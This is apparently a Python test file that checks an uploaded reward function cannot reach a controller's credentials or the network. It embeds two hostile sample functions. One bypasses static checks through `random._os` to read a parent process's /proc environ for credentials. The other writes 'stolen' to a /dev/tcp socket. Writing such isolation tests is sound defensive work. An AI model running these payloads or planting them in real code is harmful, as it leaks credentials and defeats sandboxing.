"""Uploaded reward code runs in the reward sandbox, not beside the controller's credentials.

Two hostile reward functions pass the console's static rules: one reaches `os` through `random`
and reads its parent process's environment (where a validating function's AWS credentials are),
one tries to open a connection. Uploaded to the inbox of the local cloud, each is validated (the
report shows that it ran), sees none of the controller's credentials, reaches nothing, and the
bucket holds nothing more than the upload and its report. On the racer's own machine (`pitwall
validate`) the same function does read its parent's environment: the control that shows the
attack works where nothing isolates it."""

from __future__ import annotations

import socket
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from pitwall import aws, layout
from pitwall.customfiles.validate import validate_folder
from pitwall_local.cloud import LocalCloud
from pitwall_local.examples import example_files

STEAL_ENVIRONMENT = """import random


def reward_function(params):
    os = random._os
    seen = os.popen("tr '\\\\0' ' ' < /proc/%d/environ 2>&1" % os.getppid()).read()
    raise ValueError("SEEN[" + seen + "]")
"""

TRY_THE_NETWORK = """import random


def reward_function(params):
    command = "bash -c 'echo stolen > /dev/tcp/127.0.0.1/{port}' 2>&1; echo rc=$?"
    out = random._os.popen(command).read()
    raise ValueError("NET[" + out + "]")
"""


@pytest.fixture(scope="module")
def cloud() -> Iterator[LocalCloud]:
    with LocalCloud(time_scale=60.0) as local:
        yield local


@pytest.fixture
def controller_environment() -> set[str]:
    """What /proc/<pid>/environ shows of the controller's process (here: this test process, where
    the local cloud's functions run): the environment it started with, where Lambda puts a
    function's credentials. Entries short enough to appear by chance are left out."""
    entries = Path("/proc/self/environ").read_bytes().decode("latin-1").split("\0")
    return {entry for entry in entries if "=" in entry and len(entry) > 12 and not entry.startswith("LANG=")}


def _objects(cloud: LocalCloud) -> set[tuple[str, str]]:
    versions = aws.client("s3", cloud.region).list_object_versions(Bucket=cloud.bucket)
    return {
        (v["Key"], v["VersionId"]) for v in versions.get("Versions", []) + versions.get("DeleteMarkers", [])
    }


def _upload(cloud: LocalCloud, reward_function: str) -> tuple[str, dict[str, object]]:
    """Upload a run with this reward function to the inbox; the report the validation wrote."""
    files = {**example_files(), layout.REWARD_FUNCTION_FILE: reward_function.encode()}
    request = {"model_name": "hostile", "track": "reInvent2019_track", "time_budget_minutes": 30}
    folder = cloud.upload_inbox_request(f"hostile-{uuid.uuid4().hex[:6]}", files, request)
    report = cloud.store.get_json(folder + layout.VALIDATION_REPORT_FILE)
    assert report is not None
    return folder, report


def test_a_reward_function_reading_its_parents_environment_finds_no_controller_credentials(
    cloud: LocalCloud, controller_environment: set[str]
) -> None:
    before = _objects(cloud)
    folder, report = _upload(cloud, STEAL_ENVIRONMENT)
    # validation ran the function (the report carries what it saw) and rejected it
    assert report["ok"] is False
    text = str(report["text"])
    assert "SEEN[" in text, text
    assert "PITWALL_MODEL_BUCKET=" in text  # it read its parent's environment: the sandbox's
    assert [entry for entry in controller_environment if entry in text] == []
    # the bucket holds the upload and its report, nothing else
    added = {key for key, _ in _objects(cloud) - before}
    uploaded = {folder + name for name in (*layout.CUSTOM_FILES, layout.RUN_REQUEST_FILE)}
    assert added == uploaded | {folder + layout.VALIDATION_REPORT_FILE}
    # the sandbox ran it: the validating function called it, it answered
    sandbox = cloud.stack.refs["RewardSandboxFunction"]
    assert any(i.function_name == sandbox and not i.errored for i in list(cloud.shim.invocations))


def test_a_reward_function_that_tries_the_network_reaches_nothing(cloud: LocalCloud) -> None:
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = listener.getsockname()[1]
        _, report = _upload(cloud, TRY_THE_NETWORK.replace("{port}", str(port)))
        assert report["ok"] is False and "NET[" in str(report["text"]), report
        # a connection would wait in the listen queue: none came
        listener.setblocking(False)
        with pytest.raises(BlockingIOError):
            listener.accept()


def test_on_the_racers_machine_the_same_function_reads_its_parents_environment(
    tmp_path: Path, controller_environment: set[str]
) -> None:
    for name, body in {**example_files(), layout.REWARD_FUNCTION_FILE: STEAL_ENVIRONMENT.encode()}.items():
        (tmp_path / name).write_bytes(body)
    report = validate_folder(tmp_path, python_versions=("3.12",))
    text = report.render()
    assert [entry for entry in controller_environment if entry in text]
